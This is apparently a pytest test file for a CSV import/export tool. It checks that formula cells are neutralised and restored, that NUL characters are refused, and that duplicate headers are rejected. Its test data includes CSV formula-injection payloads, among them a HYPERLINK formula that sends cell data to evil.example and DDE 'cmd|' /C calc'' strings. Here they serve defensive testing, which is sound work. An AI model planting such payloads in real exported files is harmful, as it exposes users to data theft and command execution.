"""Hostile CSV values: formula cells neutralised on export and restored on import (a bijection),
NUL refused as a row error on both databases, a repeated header column refused.

The rule is documented in docs/import.md ("Formula cells") and lives in store/io/formats.py.
"""

from __future__ import annotations

import csv
import itertools
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session
from support import TEAM
from test_import_export import EXAMPLES, counts, run_export, run_import, total_rows

from store.enums import Role
from store.io import KINDS, SPECS, ImportRejected
from store.io.formats import FORMULA_TRIGGERS, max_length, neutralise_formula, restore_formula
from store.models import (
    Allocation,
    Appointment,
    Customer,
    Deliverable,
    Milestone,
    Person,
    Project,
    RoleRate,
    Service,
    Task,
    Ticket,
    TimeEntry,
    TimeOff,
)

PLAIN_NUMBERS = ("-5", "+5", "-1.5", "+0.25", "0", "12")
# Values a person can type in Slack (or a sheet): every trigger, quotes a person typed in front of a
# trigger, a plain number, other control characters, line breaks. None has surrounding spaces
# (Slack input and import both trim those).
HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''-x",
    "'@",
    "'plain quote",
    "-5",
    "=a\x01b\x1bc\x7fd",
    "=line one\nline two",
    "a\rb\r\nc",
)
UNIQUE = {("customers", "name"), ("people", "slack_user_id")}
FIXED = {  # valid values for the required columns that are not text; a tuple: one value per row, no more rows
    "milestones": {"due_on": "2026-12-15"},
    "appointments": {"kind": "internal", "starts_at": "2026-11-17T10:00:00Z", "duration_minutes": "60"},
    "tickets": {"opened_at": "2026-11-16T09:00:00Z", "due_at": "2026-11-18T09:00:00Z"},
    "time_entries": {"date": "2026-11-17", "hours": "7.50"},
    "time_off": {"from": "2026-11-26", "to": "2026-11-27"},
    "allocations": {"hours_per_week": "16.00", "from": "2026-11-30"},
    "role_rates": {"role": tuple(r.value for r in Role)},  # unique in a workspace: one row per role
}




def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def is_risky(cell: str) -> bool:
    """What a spreadsheet could run: a cell beginning with a trigger that is not a plain number."""
    return cell.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)


# ---- the rule itself ------------------------------------------------------------------------

@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
@pytest.mark.parametrize("rest", ["cmd|' /C calc'!A0", "1+1", "", "'", "x\ny"])
def test_every_trigger_gets_one_quote_and_import_removes_exactly_it(trigger, rest):
    value = trigger + rest
    assert neutralise_formula(value) == "'" + value
    assert restore_formula("'" + value) == value
    typed = "'" + value  # a person typed the quote themselves: it must survive too
    assert neutralise_formula(typed) == "''" + value
    assert restore_formula(neutralise_formula(typed)) == typed


@pytest.mark.parametrize("value", PLAIN_NUMBERS)
def test_plain_numbers_are_written_as_they_are(value):
    assert neutralise_formula(value) == value and restore_formula(value) == value


@pytest.mark.parametrize("value", ["-1+2", "-.5", "+1,5", "-5e3", "-5 ", "--5", "-0x1", "@5"])
def test_numbers_with_anything_more_are_quoted(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "'plain", "''", "'", "", "a=b", " =x", "'1", "5-3"])
def test_values_that_cannot_run_are_written_as_they_are(value):
    assert neutralise_formula(value) == value and restore_formula(value) == value


def test_the_rule_is_a_bijection_that_leaves_nothing_runnable():
    """Every string of up to 4 characters over triggers, quotes, digits and letters."""
    alphabet = ["'", *FORMULA_TRIGGERS, "1", ".", "a"]
    values = ["".join(p) for n in range(5) for p in itertools.product(alphabet, repeat=n)]
    written = [neutralise_formula(v) for v in values]
    assert len(set(written)) == len(values), "two values would be written as the same cell"
    assert all(restore_formula(w) == v for v, w in zip(values, written, strict=True))
    assert not [w for w in written if is_risky(w)]


# ---- export -> import -> export with hostile values in every text column ------------------

def text_columns(kind: str) -> list[str]:
    return [c.name for c in SPECS[kind].columns if c.kind == "text"]


def hostile_folder(folder: Path) -> dict[str, list[dict[str, str]]]:
    """One CSV per kind, as export would write it, where every text, reference and members cell of
    every kind holds a hostile value (every value in every column); returns the intended values."""
    folder.mkdir()
    wanted: dict[str, list[dict[str, str]]] = {}
    n = len(HOSTILE)
    for kind in KINDS:
        spec = SPECS[kind]
        fixed = FIXED.get(kind, {})
        rows = []
        for i in range(min([n, *(len(v) for v in fixed.values() if isinstance(v, tuple))])):
            row = {name: v[i] if isinstance(v, tuple) else v for name, v in fixed.items()}
            for c, column in enumerate(spec.columns):
                if column.kind == "text":
                    unique = column.name == "key" or (kind, column.name) in UNIQUE
                    tag = f"#{i}" if unique else ""
                    limit = max_length(spec.model, column) or 10_000
                    row[column.name] = HOSTILE[(i + c) % n][:limit - len(tag)].rstrip() + tag
                elif column.kind == "ref":
                    row[column.name] = wanted[column.ref][(i + c) % n]["key"]
                elif column.kind == "members":
                    row[column.name] = ";".join(sorted({wanted["people"][i]["key"], wanted["people"][i - 1]["key"]}))
            rows.append(row)
        wanted[kind] = rows
        header = list(rows[0])
        with (folder / f"{kind}.csv").open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\r\n")  # quotes cells holding \r; import reads CRLF
            writer.writerow(header)
            writer.writerows([neutralise_formula(row[name]) for name in header] for row in rows)
    return wanted


def test_hostile_values_in_every_text_column_round_trip_byte_identical(engine, tmp_path):
    wanted = hostile_folder(tmp_path / "hostile")
    assert counts(run_import(engine, tmp_path / "hostile")) == {k: (len(wanted[k]), 0, 0) for k in KINDS}
    with Session(engine) as session:
        for kind in KINDS:
            model, names = SPECS[kind].model, text_columns(kind)
            stored = {r.key: r for r in session.scalars(select(model).where(model.team_id == TEAM))}
            for row in wanted[kind]:
                for name in names:
                    assert getattr(stored[row["key"]], name) == row[name], (kind, name, row["key"])

    first, second = tmp_path / "first", tmp_path / "second"
    run_export(engine, first)
    plain_seen = False
    for kind in KINDS:
        exported = {restore_formula(r["key"]): r for r in read_rows(first / f"{kind}.csv")}
        for row in wanted[kind]:
            cells = exported[row["key"]]
            for name, value in row.items():
                if name in FIXED.get(kind, {}):
                    continue
                assert cells[name] == neutralise_formula(value), (kind, name, value)
                assert restore_formula(cells[name]) == value
                plain_seen |= cells[name] == "-5"
            assert not [c for c in cells.values() if is_risky(c)], (kind, cells)
    assert plain_seen, "a plain number in a text column is exported as it is"
    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click me\")" in {
        c for r in read_rows(first / "deliverables.csv") for c in r.values()}

    written = {kind: len(wanted[kind]) for kind in KINDS}
    assert counts(run_import(engine, first)) == {k: (0, 0, written[k]) for k in KINDS}
    run_export(engine, second)
    for kind in KINDS:
        name = f"{kind}.csv"
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


EVERY_KIND = [  # (model, key in examples, text column) for every kind of file; role rates have only their key
    (Customer, "globex", "name"), (Person, "bill", "name"), (RoleRate, "rate-lead", "key"),
    (Service, "acme-onboarding", "action_note"),
    (Project, "acme-data", "name"), (Milestone, "globex-design", "name"),
    (Deliverable, "globex-idp", "blocked_reason"), (Appointment, "apt-2", "title"),
    (Ticket, "T-100", "resolution_note"), (Task, "task-1", "title"), (TimeEntry, "te-bill-1124", "note"),
    (TimeOff, "off-bill-dentist", "note"), (Allocation, "alloc-bill-globex", "note"),
]
TYPED_QUOTE = [(Deliverable, "acme-import", "name"), (Ticket, "T-101", "title"), (Service, "globex-sso", "name")]


def key_after(key: str, attr: str, value: str) -> str:
    """The row's key once `value` is stored in `attr` (a role rate's text column is its key)."""
    return value if attr == "key" else key


def set_values(engine, changes: dict[tuple[type, str, str], str]) -> None:
    """Store values as the Slack surfaces would (straight into the rows)."""
    with Session(engine) as session, session.begin():
        for (model, key, attr), value in changes.items():
            row = session.scalars(select(model).where(model.team_id == TEAM, model.key == key)).one()
            setattr(row, attr, value)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_each_trigger_is_quoted_in_every_kind_of_file_and_comes_back(engine, tmp_path, trigger):
    run_import(engine, EXAMPLES)
    changes = {(m, key, attr): f"{trigger}cmd|' /C calc'!A0 {m.__tablename__}" for m, key, attr in EVERY_KIND}
    changes |= {(m, key, attr): f"'{trigger}typed {key}" for m, key, attr in TYPED_QUOTE}
    set_values(engine, changes)
    first, second = tmp_path / "first", tmp_path / "second"
    run_export(engine, first)
    for (model, key, attr), value in changes.items():
        rows = {restore_formula(r["key"]): r for r in read_rows(first / f"{model.__tablename__}.csv")}
        assert rows[key_after(key, attr, value)][attr] == "'" + value, (model.__tablename__, attr)
    report = run_import(engine, first)
    assert all(c.new == c.updated == 0 for c in report.counts.values()), counts(report)
    with Session(engine) as session:
        for (model, key, attr), value in changes.items():
            stored = session.scalar(select(getattr(model, attr)).where(model.key == key_after(key, attr, value)))
            assert stored == value
    run_export(engine, second)
    for kind in KINDS:
        assert (first / f"{kind}.csv").read_bytes() == (second / f"{kind}.csv").read_bytes(), kind


def test_the_block_reason_from_slack_is_written_as_text(engine, tmp_path):
    run_import(engine, EXAMPLES)
    reason = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'
    set_values(engine, {(Deliverable, "globex-idp", "blocked_reason"): reason})
    run_export(engine, tmp_path / "out")
    text = (tmp_path / "out" / "deliverables.csv").read_text(encoding="utf-8")
    assert ',"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click me"")",' in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text


def test_other_control_characters_are_kept_on_both_databases(engine, tmp_path):
    """PostgreSQL refuses only NUL in text: every other control character imports and round-trips."""
    controls = "".join(chr(c) for c in [*range(1, 32), 127])
    run_import(engine, EXAMPLES)
    changes = {(m, key, attr): f"=x{controls}y {key}" for m, key, attr in EVERY_KIND}
    set_values(engine, changes)
    first, second = tmp_path / "first", tmp_path / "second"
    run_export(engine, first)
    assert all(c.new == c.updated == 0 for c in run_import(engine, first).counts.values())
    run_export(engine, second)
    for kind in KINDS:
        assert (first / f"{kind}.csv").read_bytes() == (second / f"{kind}.csv").read_bytes(), kind
    with Session(engine) as session:
        for (model, key, attr), value in changes.items():
            stored = session.scalar(select(getattr(model, attr)).where(model.key == key_after(key, attr, value)))
            assert stored == value
    typed = tmp_path / "typed" / "customers.csv"
    typed.parent.mkdir()
    with typed.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows([["key", "name"], ["ctl", f"Ctl{controls}Corp"]])
    assert counts(run_import(engine, typed)) == {"customers": (1, 0, 0)}


# ---- NUL: a row error on both databases, nothing imported -----------------------------------

NUL_REASON = "contains a NUL character (\\x00), which the database cannot store: remove it"
# (file, line, column): text, reference, members, datetime and key cells, in rows whose rejection
# leaves no other error (rows that refer to them by key are skipped, see docs/import.md). The folder
# is imported whole, except customers.csv, imported alone: other files name its rows by name.
NUL_CELLS = [
    ("customers.csv", 3, "name"),
    ("customers.csv", 2, "key"),
    ("deliverables.csv", 4, "blocked_reason"),
    ("tickets.csv", 2, "resolution_note"),
    ("tickets.csv", 3, "customer"),
    ("services.csv", 4, "members"),
    ("appointments.csv", 3, "starts_at"),
    ("tasks.csv", 3, "key"),
    ("milestones.csv", 2, "name"),
]


def put_in_cell(path: Path, line: int, column: str, text: str, *, where: str = "middle") -> None:
    """Put `text` into one cell of a CSV whose records are one line each."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    index = rows[0].index(column)
    cell = rows[line - 1][index]
    rows[line - 1][index] = {"start": text + cell, "end": cell + text}.get(where, cell[:2] + text + cell[2:])
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


@pytest.mark.parametrize("file, line, column", NUL_CELLS)
def test_a_nul_in_any_cell_is_a_row_error_and_nothing_is_imported(engine, tmp_path, file, line, column):
    folder = tmp_path / "portfolio"
    shutil.copytree(EXAMPLES, folder)
    put_in_cell(folder / file, line, column, "\x00")
    with pytest.raises(ImportRejected) as rejected:
        run_import(engine, folder / file if file == "customers.csv" else folder)
    assert [(e.file, e.line, e.column, e.reason) for e in rejected.value.errors] == [(file, line, column, NUL_REASON)]
    assert total_rows(engine) == 0


@pytest.mark.parametrize("where", ["start", "middle", "end"])
def test_a_nul_in_an_update_keeps_every_stored_row_as_it_was(engine, tmp_path, where):
    run_import(engine, EXAMPLES)
    run_export(engine, tmp_path / "before")
    folder = tmp_path / "changes"
    folder.mkdir()
    (folder / "customers.csv").write_text("key,name\nacme,Acme Corp\ninitech,Initech Renamed\nglobex,Globex\n",
                                          encoding="utf-8")
    put_in_cell(folder / "customers.csv", 4, "name", "\x00", where=where)
    tickets = (EXAMPLES / "tickets.csv").read_text(encoding="utf-8").replace("Import fails on large files", "Changed")
    (folder / "tickets.csv").write_text(tickets, encoding="utf-8")
    put_in_cell(folder / "tickets.csv", 4, "title", "\x00", where=where)
    for dry_run in (True, False):
        with pytest.raises(ImportRejected) as rejected:
            run_import(engine, folder, dry_run=dry_run)
        assert [(e.file, e.line, e.column) for e in rejected.value.errors] == [
            ("customers.csv", 4, "name"), ("tickets.csv", 4, "title")]
    run_export(engine, tmp_path / "after")
    for kind in KINDS:  # the good changes (a renamed customer, a retitled ticket) were not kept either
        assert (tmp_path / "before" / f"{kind}.csv").read_bytes() == (tmp_path / "after" / f"{kind}.csv").read_bytes()


def test_a_quoted_nul_cell_is_refused_too(engine, tmp_path):
    """The formula quote is removed first, then the value is checked: '=\\x00 is still refused."""
    (tmp_path / "customers.csv").write_text("key,name\nbad,'=x\x00\n", encoding="utf-8")
    with pytest.raises(ImportRejected) as rejected:
        run_import(engine, tmp_path / "customers.csv")
    assert [str(e) for e in rejected.value.errors] == [f"customers.csv, line 2, column name: {NUL_REASON}"]
    assert total_rows(engine) == 0


# ---- a repeated header column is refused ----------------------------------------------------

REPEATED = [  # (file, columns added to the header, the columns reported)
    ("customers.csv", ["name"], ["name"]),
    ("services.csv", ["owner"], ["owner"]),
    ("deliverables.csv", ["blocked_reason"], ["blocked_reason"]),
    ("tickets.csv", ["key", "key"], ["key"]),
    ("tasks.csv", ["title", "owner"], ["title", "owner"]),
]


def repeat_columns(path: Path, extra: list[str]) -> None:
    """Append `extra` header names, each row repeating that column's cell (a later copy would win)."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    indexes = [rows[0].index(name) for name in extra]
    rows = [rows[0] + extra] + [row + [f"other {row[i]}" for i in indexes] for row in rows[1:]]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


@pytest.mark.parametrize("file, extra, reported", REPEATED)
def test_a_repeated_header_column_refuses_the_file(engine, tmp_path, file, extra, reported):
    """Over stored rows (so every reference resolves): the file is refused, no cell of it is kept."""
    run_import(engine, EXAMPLES)
    run_export(engine, tmp_path / "before")
    changed = tmp_path / file
    shutil.copy(EXAMPLES / file, changed)
    repeat_columns(changed, extra)
    with pytest.raises(ImportRejected) as rejected:
        run_import(engine, changed)
    errors = rejected.value.errors
    assert [(e.file, e.line, e.column) for e in errors] == [(file, 1, name) for name in reported]
    times = 1 + extra.count(reported[0])
    assert errors[0].reason == f"duplicate column: the header names it {times} times; keep one"
    run_export(engine, tmp_path / "after")
    for kind in KINDS:
        assert (tmp_path / "before" / f"{kind}.csv").read_bytes() == (tmp_path / "after" / f"{kind}.csv").read_bytes()


def test_a_repeated_header_column_in_a_folder_imports_nothing(engine, tmp_path):
    folder = tmp_path / "portfolio"
    shutil.copytree(EXAMPLES, folder)
    repeat_columns(folder / "tickets.csv", ["priority"])
    with pytest.raises(ImportRejected) as rejected:
        run_import(engine, folder)
    assert [str(e) for e in rejected.value.errors] == [
        "tickets.csv, line 1, column priority: duplicate column: the header names it 2 times; keep one"]
    assert total_rows(engine) == 0


# ---- the CLI: non-zero exit, one line per reason, no traceback --------------------------------

def run_cli(*args: str, cwd, database_url: str) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DELIVERY_", "DATABASE_URL"))}
    return subprocess.run([sys.executable, "-m", "bot.cli", *args], cwd=cwd, capture_output=True, text=True,
                          env={**base, "DATABASE_URL": database_url}, timeout=120)


def test_the_cli_reports_a_nul_and_a_repeated_column_in_one_line_each(engine, database_url, tmp_path):
    folder = tmp_path / "portfolio"
    shutil.copytree(EXAMPLES, folder)
    put_in_cell(folder / "deliverables.csv", 4, "blocked_reason", "\x00")
    result = run_cli("import", str(folder), cwd=tmp_path, database_url=database_url)
    assert result.returncode == 1 and "Traceback" not in result.stderr and "\x00" not in result.stderr
    assert result.stderr.splitlines() == [f"deliverables.csv, line 4, column blocked_reason: {NUL_REASON}",
                                          "delivery-bot: 1 bad row(s); nothing was imported"]

    single = tmp_path / "clients.csv"
    single.write_text("key,name,name\nzed,Zed,Zed Corp\n", encoding="utf-8")
    result = run_cli("import", str(single), "--kind", "customers", cwd=tmp_path, database_url=database_url)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        "clients.csv, line 1, column name: duplicate column: the header names it 2 times; keep one",
        "delivery-bot: 1 bad row(s); nothing was imported"]
    assert total_rows(engine) == 0


def test_the_cli_export_neutralises_formulas_and_reimports_unchanged(engine, database_url, tmp_path):
    run_import(engine, EXAMPLES)
    set_values(engine, {(Deliverable, "globex-idp", "blocked_reason"): '=HYPERLINK("https://evil.example")',
                        (Ticket, "T-101", "title"): "'@typed", (Customer, "acme", "name"): "\r=1+1"})
    assert run_cli("export", "first", cwd=tmp_path, database_url=database_url).returncode == 0
    again = run_cli("import", "first", cwd=tmp_path, database_url=database_url)
    assert again.returncode == 0, again.stderr
    assert all(" 0 new, 0 updated" in line for line in again.stdout.strip().splitlines())
    assert run_cli("export", "second", cwd=tmp_path, database_url=database_url).returncode == 0
    for first in sorted((tmp_path / "first").iterdir()):
        assert first.read_bytes() == (tmp_path / "second" / first.name).read_bytes(), first.name
    exported = (tmp_path / "first" / "customers.csv").read_bytes()
    assert exported == b"key,name\nacme,\"'\r=1+1\"\nglobex,Globex\ninitech,Initech\n"
